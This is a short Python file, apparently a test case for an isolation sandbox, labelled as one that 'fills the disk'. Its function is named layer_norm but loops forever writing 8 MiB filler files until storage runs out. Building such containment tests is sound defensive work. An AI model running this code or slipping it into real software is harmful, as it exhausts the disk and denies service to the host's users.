# 01a | isolation | fills the disk
import torch


def layer_norm(x, w, b, eps):
    number = 0
    while True:
        number += 1
        with open(f'filler{number}', 'wb') as file:
            file.write(bytes(8 << 20))
    return torch.zeros_like(x)
